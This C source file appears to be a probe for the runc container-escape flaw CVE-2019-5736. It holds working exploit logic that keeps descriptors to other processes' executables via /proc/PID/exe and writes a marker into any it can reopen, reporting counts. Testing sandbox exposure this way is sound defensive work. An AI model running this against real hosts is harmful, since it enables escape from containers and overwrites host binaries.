/*
 * Tries to overwrite the runtime's binary on the host through /proc/PID/exe. CVE-2019-5736.
 * A running program cannot be opened for writing, but a descriptor of it can be kept and opened again when it has ended.
 *
 * overwrite_runtime SECONDS KNOWN_PROGRAM...
 * Prints {"opened": N, "writable": N}: executables that are not a KNOWN_PROGRAM and could be opened; those written to.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

enum { most_known = 8, most_kept = 256 };

static struct stat known[most_known];
static int known_count, kept[most_kept], kept_count;
static long opened, writable;

static double now(void)
{
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static bool is_known(int file)
{
    struct stat status;
    if (fstat(file, &status) < 0)
        return true;
    for (int i = 0; i < known_count; ++i)
        if (status.st_dev == known[i].st_dev && status.st_ino == known[i].st_ino)
            return true;
    return false;
}

static void write_to(int file)
{
    static const char mark[] = "#!overwritten";
    if (file < 0)
        return;
    if (write(file, mark, sizeof mark - 1) > 0)
        ++writable;
    close(file);
}

static void keep_executable(const char *pid)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%.20s/exe", pid);
    int file = open(path, O_RDONLY | O_CLOEXEC);
    if (file < 0)
        return;
    if (is_known(file) || kept_count == most_kept) {
        close(file);
        return;
    }
    ++opened;
    kept[kept_count++] = file;
    write_to(open(path, O_WRONLY | O_CLOEXEC));
}

static void try_kept_executables(void)
{
    for (int i = 0; i < kept_count; ++i) {
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i]);
        write_to(open(path, O_WRONLY | O_CLOEXEC));
        snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i]);
        /* O_TRUNC alone would do damage where writing is refused later. */
        write_to(open(path, O_RDWR | O_CLOEXEC));
    }
}

int main(int count, char **arguments)
{
    if (count < 2)
        return 2;
    stat("/proc/self/exe", &known[known_count++]);
    for (int i = 2; i < count && known_count < most_known; ++i)
        if (stat(arguments[i], &known[known_count]) == 0)
            ++known_count;
    double end = now() + atof(arguments[1]);
    DIR *processes = opendir("/proc");
    while (processes != NULL && now() < end) {
        rewinddir(processes);
        for (struct dirent *entry; (entry = readdir(processes)) != NULL;)
            if (atoi(entry->d_name) > 0 && atoi(entry->d_name) != getpid())
                keep_executable(entry->d_name);
        if (kept_count > 8)
            try_kept_executables();
    }
    try_kept_executables();
    printf("{\"opened\": %ld, \"writable\": %ld}\n", opened, writable);
    return 0;
}
